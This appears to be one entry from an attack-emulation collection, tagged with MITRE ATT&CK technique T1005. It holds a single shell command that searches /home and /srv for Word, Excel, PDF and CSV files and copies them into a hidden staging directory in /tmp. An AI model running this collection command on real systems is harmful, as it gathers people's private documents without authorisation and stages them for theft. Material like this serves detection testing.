# title: Documents are looked for and copied
# technique: T1005
# needs: find

mkdir -p /tmp/.c && find /home /srv -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.csv' \) -exec cp --backup=numbered -t /tmp/.c {} +
